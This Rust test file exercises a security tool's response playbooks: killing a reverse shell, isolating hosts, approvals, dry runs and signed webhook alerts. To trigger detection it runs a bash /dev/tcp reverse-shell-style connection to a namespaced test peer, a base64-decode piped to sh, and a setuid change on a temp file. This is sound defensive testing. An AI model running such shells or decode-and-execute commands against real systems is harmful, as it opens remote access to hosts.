//! Playbooks end to end, with the real binaries. Containment acts only inside namespaces the
//! tests create (controller, agent host and peer joined by veth pairs); the tests on loopback
//! only use steps that touch no host.

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

use cordon_tests::deploy::{AgentHandle, Deployment, PEER_V4};
use cordon_tests::netns::{EchoServer, reachable};
use cordon_tests::repo::{
    apply, approval_playbook, detection_config as detection, marker, own_rule, path as repo,
    rule_id,
};
use cordon_tests::webhook::WebhookReceiver;
use cordon_tests::{poll, require_root};
use serde_json::Value;
use std::process::Command;
use std::time::Duration;

fn online(d: &Deployment, name: &str, labels: &[&str]) -> AgentHandle {
    let mut a = d.enroll_agent(name, labels);
    d.start_agent(&mut a);
    d.wait_online(&a, true, Duration::from_secs(20));
    a
}

fn incident_of(d: &Deployment, agent: &AgentHandle, rule: &str) -> Value {
    let alert = poll(Duration::from_secs(20), || {
        d.ctl_list(&["alerts", "list", "--agent", &agent.id])
            .as_array()?
            .iter()
            .find(|a| a["rule_id"] == rule)
            .cloned()
    })
    .unwrap_or_else(|| panic!("no alert for {rule}"));
    d.ctl_json(&["incidents", "show", alert["incident_id"].as_str().unwrap()])
}

fn timeline_text(inc: &Value) -> String {
    inc["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| format!("{} {} {}\n", t["kind"], t["actor"], t["text"]))
        .collect()
}

/// Polls the incident until `ok` holds for it.
fn wait_incident(d: &Deployment, id: &str, what: &str, ok: impl Fn(&Value) -> bool) -> Value {
    poll(Duration::from_secs(30), || {
        let inc = d.ctl_json(&["incidents", "show", id]);
        ok(&inc).then_some(inc)
    })
    .unwrap_or_else(|| {
        panic!(
            "{what}:\n{}",
            timeline_text(&d.ctl_json(&["incidents", "show", id]))
        )
    })
}

#[test]
fn netns_a_reverse_shell_is_killed_its_host_isolated_and_people_told() {
    if !require_root("netns_a_reverse_shell_is_killed_its_host_isolated_and_people_told") {
        return;
    }
    let mut d = Deployment::namespaces_with_peer(&detection(""));
    let ctl_ns = d.ctl_ns.as_ref().unwrap().name.clone();
    let hook = WebhookReceiver::start(Some(&ctl_ns));
    let secret = d.dir.path().join("webhook.secret");
    std::fs::write(&secret, "s3cret-for-tests\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    d.configure_controller(&format!(
        "[playbooks]\ndir = {}\n[[notify.webhooks]]\nname = \"soc\"\nurl = \"{}\"\nsecret_file = {}\n",
        toml::Value::from(only_playbook(&d, "reverse-shell.yml")),
        hook.url(),
        toml::Value::from(secret.display().to_string())
    ));
    let agent = online(&d, "victim", &["team=blue"]);
    let host = d.agent_ns.as_ref().unwrap().name.clone();
    let peer = d.peer_ns.as_ref().unwrap().name.clone();
    let _listener = EchoServer::start(&peer, &format!("{PEER_V4}:8080"));
    let peer_addr: std::net::SocketAddr = format!("{PEER_V4}:8080").parse().unwrap();
    assert!(reachable(&host, peer_addr), "peer reachable before");

    // The reverse shell: bash on the agent's host holding a connection to the peer.
    let mut shell = d
        .agent_ns
        .as_ref()
        .unwrap()
        .command("bash")
        .args([
            "-c",
            &format!("exec 3<>/dev/tcp/{PEER_V4}/8080; sleep 60 <&3"),
        ])
        .spawn()
        .unwrap();
    let killed = poll(Duration::from_secs(20), || shell.try_wait().unwrap());
    if killed.is_none() {
        let _ = shell.kill();
    }
    let status = killed.expect("the playbook killed the shell");
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(status.signal(), Some(9), "killed, not exited: {status:?}");

    let inc = incident_of(&d, &agent, &rule_id("reverse_shell_dev_tcp"));
    let id = inc["id"].as_str().unwrap().to_string();
    let inc = wait_incident(&d, &id, "the playbook did not finish", |i| {
        timeline_text(i).contains("playbook reverse-shell finished")
    });
    assert!(!reachable(&host, peer_addr), "the peer is cut off");
    d.ctl_json(&["ping", &agent.id]);
    assert_eq!(inc["status"], "contained");
    assert_eq!(inc["severity"], "critical");
    let text = timeline_text(&inc);
    for want in [
        "\"alert\"",
        "playbook reverse-shell started",
        "kill (kill_process): succeeded",
        "isolate (isolate_host): succeeded",
        "contain (set_incident): succeeded",
        "tell (notify): succeeded",
        "status open -> contained",
    ] {
        assert!(text.contains(want), "{want} missing from\n{text}");
    }

    let got = hook.all();
    assert_eq!(got.len(), 1, "one notification");
    let r = &got[0];
    let ts = &r.headers["x-cordon-timestamp"];
    let sig = &r.headers["x-cordon-signature"];
    assert!(cordon_controller::notify::sign::verify(
        b"s3cret-for-tests",
        ts,
        &r.body,
        sig
    ));
    assert!(!cordon_controller::notify::sign::verify(
        b"wrong", ts, &r.body, sig
    ));
    let body: Value = serde_json::from_slice(&r.body).unwrap();
    assert_eq!(body["incident_id"], id.as_str());
    assert_eq!(body["playbook"], "reverse-shell");
    assert_eq!(body["agent_id"], agent.id.as_str());

    check_report(&d, &id, &agent);
}

/// The post-incident report of the reverse shell, in both formats.
fn check_report(d: &Deployment, id: &str, agent: &AgentHandle) {
    let r: Value =
        serde_json::from_str(&d.ctl(&["incidents", "report", id, "--format", "json"])).unwrap();
    let hostname = r["host"]["hostname"].as_str().unwrap().to_string();
    assert!(!hostname.is_empty(), "{r:#}");
    assert_eq!(r["host"]["agent_id"], agent.id.as_str());
    assert_eq!(r["host"]["labels"]["team"], "blue");
    let rule = rule_id("reverse_shell_dev_tcp");
    let alert = r["incident"]["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["rule_id"] == rule.as_str())
        .unwrap_or_else(|| panic!("no reverse shell alert in {r:#}"));
    assert_eq!(alert["author"], "Cordon");
    let run = r["runs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|run| run["playbook"] == "reverse-shell")
        .unwrap_or_else(|| panic!("no reverse-shell run in {r:#}"));
    let steps = run["steps"].as_array().unwrap();
    let isolate = steps
        .iter()
        .find(|s| s["action"] == "isolate_host")
        .unwrap();
    assert_eq!(isolate["status"], "succeeded");
    let command = isolate["command_id"].as_str().unwrap();
    assert!(!command.is_empty(), "{isolate}");
    let first = r["first_event_at_ms"].as_i64().expect("first event time");
    let detect = r["time_to_detect_ms"].as_i64().expect("time to detect");
    let contain = r["time_to_contain_ms"].as_i64().expect("time to contain");
    assert!(first > 0 && detect >= 0 && contain >= detect, "{r:#}");
    let by = r["contained_by"].as_str().unwrap();
    assert!(by.contains("playbook:reverse-shell"), "{r:#}");

    // The tree of the shell that raised the alert (which may have run sleep since).
    let shell = &r["process_tree"]["process"];
    let ran = shell["execs"].as_array().unwrap();
    assert!(
        ran.iter()
            .any(|e| e["command"].as_str().unwrap().contains("/dev/tcp")),
        "{r:#}"
    );

    let md = d.ctl(&["incidents", "report", id]);
    for want in [
        "# Incident report: ".to_string(),
        "## Process tree".into(),
        format!("▶ pid {} ", shell["pid"]),
        format!("| {hostname} | `{}` | team=blue |", agent.id),
        "| Cordon |".into(),
        "### playbook:reverse-shell (succeeded)".into(),
        "| isolate | isolate_host | succeeded |".into(),
        format!("`{command}`"),
        "| **Time to detect** | ".into(),
        "| **Time to contain** | ".into(),
    ] {
        assert!(md.contains(&want), "{want} missing from\n{md}");
    }
    assert!(!md.contains("| **Time to contain** | unknown |"), "{md}");
    let out = d.try_ctl(&["incidents", "report", id, "--format", "html"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("possible values: md, json"),
        "{out:?}"
    );
}

/// A directory holding just one of the default playbooks: the others (download-exec kills
/// what runs from /dev/shm) must not act on other tests' processes.
fn only_playbook(d: &Deployment, file: &str) -> String {
    let dir = d.dir.path().join("playbooks");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(format!("{}/{file}", repo("playbooks")), dir.join(file)).unwrap();
    dir.display().to_string()
}

fn sh(script: &str) {
    let _ = Command::new("/bin/sh")
        .args(["-c", script])
        .status()
        .unwrap();
}

#[test]
fn approvals_let_a_person_decide_and_are_recorded() {
    if !require_root("approvals_let_a_person_decide_and_are_recorded") {
        return;
    }
    let d = Deployment::loopback(&detection(""));
    let agent = online(&d, "a1", &[]);
    let (b64, suid) = (marker("approve-b64"), marker("approve-suid"));
    for (name, m) in [("ask-b64", &b64), ("ask-suid", &suid)] {
        let rule = own_rule(&d, m);
        apply(&d, name, &approval_playbook(name, &rule, 120));
    }
    // A refused file names its line and field.
    let bad = d.dir.path().join("bad.yml");
    std::fs::write(
        &bad,
        "name: bad\ntrigger:\n  rules: [x]\nsteps:\n  - action: isolate_host\n    tree: true\n",
    )
    .unwrap();
    let out = d.try_ctl(&["playbooks", "apply", bad.to_str().unwrap()]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("bad.yml: line 6") && err.contains("steps[0].tree"),
        "{err}"
    );

    sh(&format!("echo aWQK | base64 -d | sh >/dev/null # {b64}"));
    let tmp = tempfile::tempdir().unwrap();
    sh(&format!(
        "touch {0}/f && chmod u+s {0}/f # {suid}",
        tmp.path().display()
    ));

    let pending = poll(Duration::from_secs(30), || {
        let list = d.ctl_list(&["approvals", "list"]).as_array()?.clone();
        (list.len() >= 2).then_some(list)
    })
    .unwrap_or_else(|| panic!("{:#}", d.ctl_list(&["approvals", "list", "--all"])));
    let inc_id = pending[0]["incident_id"].as_str().unwrap().to_string();
    let shown = d.ctl(&["incidents", "show", &inc_id]);
    assert!(shown.contains("waiting for approval"), "{shown}");
    let inc = d.ctl_json(&["incidents", "show", &inc_id]);
    let by_playbook = |name: &str| {
        inc["timeline"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["kind"] == "approval" && t["actor"] == format!("playbook:{name}").as_str())
            .map(|t| t["ref"].as_str().unwrap().to_string())
    };
    let approve = by_playbook("ask-b64").unwrap();
    let deny = by_playbook("ask-suid").unwrap();
    let out = d.ctl(&["approvals", "approve", &approve, "--reason", "looks bad"]);
    assert!(out.contains("approved by admin"), "{out}");
    d.ctl(&["approvals", "deny", &deny, "--reason", "a test"]);
    // Deciding twice is refused.
    assert!(!d.try_ctl(&["approvals", "deny", &approve]).status.success());

    let inc = wait_incident(&d, &inc_id, "the runs did not end", |i| {
        let t = timeline_text(i);
        t.contains("playbook ask-b64 finished") && t.contains("playbook ask-suid aborted")
    });
    assert_eq!(inc["severity"], "critical", "the approved run went on");
    let out = d.ctl(&[
        "incidents",
        "note",
        &inc_id,
        "called the owner; expected admin work",
    ]);
    assert!(out.contains("note added"), "{out}");
    let inc = d.ctl_json(&["incidents", "show", &inc_id]);
    let note = inc["timeline"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(
        (note["kind"].as_str(), note["actor"].as_str()),
        (Some("note"), Some("admin"))
    );
    assert_eq!(note["text"], "called the owner; expected admin work");
    let text = timeline_text(&inc);
    assert!(
        text.contains(&format!("approval {approve} approved")),
        "{text}"
    );
    assert!(text.contains(&format!("approval {deny} denied")), "{text}");
    let all = d
        .ctl_list(&["approvals", "list", "--all"])
        .as_array()
        .unwrap()
        .clone();
    let decided = all.iter().find(|a| a["id"] == approve.as_str()).unwrap();
    assert_eq!(decided["decided_by"], "admin");
    assert!(decided["decided_at_ms"].as_i64().unwrap() > 0);
    let _ = agent;
}

#[test]
fn netns_guards_dry_runs_protected_hosts_and_the_isolation_budget() {
    if !require_root("netns_guards_dry_runs_protected_hosts_and_the_isolation_budget") {
        return;
    }
    let d = Deployment::namespaces(&detection("[playbooks]\nisolation_budget_per_hour = 1\n"));
    // Three ordinary hosts and a protected one (all in the test's agent namespace). The same
    // exec is seen by all of them: one rule floods alerts across the fleet.
    let agents: Vec<AgentHandle> = (0..3).map(|i| online(&d, &format!("h{i}"), &[])).collect();
    // Protection comes from the token: a host's own protection labels are ignored.
    let token = d.token_with_labels(&["cordon.protected=true"]);
    let mut protected = d.enroll_agent_with(&token, "crown-jewel", &[]);
    d.start_agent(&mut protected);
    d.wait_online(&protected, true, Duration::from_secs(20));
    let m = marker("guards");
    let suid = own_rule(&d, &m);
    apply(
        &d,
        "isolate-on-suid",
        &format!(
            "name: isolate-on-suid\ntrigger:\n  rules: [{suid}]\nsteps:\n  - action: isolate_host\n    timeout_secs: 30\n"
        ),
    );
    apply(
        &d,
        "rehearsal",
        &format!(
            "name: rehearsal\ndry_run: true\ntrigger:\n  rules: [{suid}]\nsteps:\n  - action: kill_process\n  - action: isolate_host\n"
        ),
    );
    let tmp = tempfile::tempdir().unwrap();
    sh(&format!(
        "touch {0}/f && chmod u+s {0}/f # {m}",
        tmp.path().display()
    ));

    // Exactly one host is isolated; the others wait for approval, the protected one for its
    // own reason.
    let approvals = poll(Duration::from_secs(40), || {
        let list = d.ctl_list(&["approvals", "list"]).as_array()?.clone();
        (list.len() >= 3).then_some(list)
    })
    .unwrap_or_else(|| panic!("{:#}", d.ctl_list(&["approvals", "list", "--all"])));
    assert_eq!(approvals.len(), 3, "{approvals:#?}");
    let reasons: Vec<&str> = approvals
        .iter()
        .map(|a| a["reason"].as_str().unwrap())
        .collect();
    assert_eq!(
        reasons.iter().filter(|r| r.contains("budget")).count(),
        2,
        "{reasons:?}"
    );
    let guarded = approvals
        .iter()
        .find(|a| a["agent_id"] == protected.id.as_str())
        .unwrap();
    assert!(
        guarded["reason"].as_str().unwrap().contains("protected"),
        "{guarded}"
    );
    let isolated: Vec<&AgentHandle> = poll(Duration::from_secs(20), || {
        let v: Vec<&AgentHandle> = agents
            .iter()
            .filter(|a| d.agent_record(&a.id)["isolation_desired"] == true)
            .collect();
        (v.len() == 1).then_some(v)
    })
    .expect("exactly one host isolated");
    assert_eq!(isolated.len(), 1);
    assert_eq!(d.agent_record(&protected.id)["isolation_desired"], false);

    // The dry run recorded what it would do and did nothing more.
    let inc = d.ctl_json(&[
        "incidents",
        "show",
        guarded["incident_id"].as_str().unwrap(),
    ]);
    let text = wait_incident(&d, inc["id"].as_str().unwrap(), "no dry run", |i| {
        timeline_text(i).contains("playbook rehearsal finished")
    });
    let text = timeline_text(&text);
    assert!(
        text.contains("(kill_process): dry_run - would kill pid"),
        "{text}"
    );
    assert!(
        text.contains("(isolate_host): dry_run - would isolate"),
        "{text}"
    );

    // And `playbooks dry-run` against a stored alert says what would happen.
    let alert = d
        .ctl_list(&["alerts", "list", "--agent", &protected.id])
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["rule_id"] == suid.as_str())
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let f = d.dir.path().join("isolate-on-suid.yml");
    let out = d.ctl(&[
        "playbooks",
        "dry-run",
        f.to_str().unwrap(),
        "--alert",
        &alert,
    ]);
    assert!(out.contains("this alert triggers the playbook"), "{out}");
    assert!(
        out.contains("would isolate the host") && out.contains("protected"),
        "{out}"
    );
}

#[test]
fn a_run_waiting_for_approval_survives_a_controller_restart() {
    if !require_root("a_run_waiting_for_approval_survives_a_controller_restart") {
        return;
    }
    let mut d = Deployment::loopback(&detection(""));
    let agent = online(&d, "a1", &[]);
    let m = marker("restart");
    let rule = own_rule(&d, &m);
    apply(&d, "patient", &approval_playbook("patient", &rule, 300));
    sh(&format!("echo aWQK | base64 -d | sh >/dev/null # {m}"));
    let pending = poll(Duration::from_secs(30), || {
        d.ctl_list(&["approvals", "list"])
            .as_array()?
            .first()
            .cloned()
    })
    .expect("an approval pending");
    let id = pending["id"].as_str().unwrap().to_string();
    let incident = pending["incident_id"].as_str().unwrap().to_string();

    d.stop_controller();
    d.start_controller();
    d.wait_online(&agent, true, Duration::from_secs(20));
    // The same request is still pending, not a second one.
    let list = d
        .ctl_list(&["approvals", "list"])
        .as_array()
        .unwrap()
        .clone();
    assert_eq!(list.len(), 1, "{list:#?}");
    assert_eq!(list[0]["id"], id.as_str());
    d.ctl(&["approvals", "approve", &id]);
    let inc = wait_incident(&d, &incident, "the resumed run did not finish", |i| {
        timeline_text(i).contains("playbook patient finished")
    });
    assert_eq!(inc["severity"], "critical");
    let text = timeline_text(&inc);
    assert_eq!(
        text.matches("playbook patient started").count(),
        1,
        "{text}"
    );
}
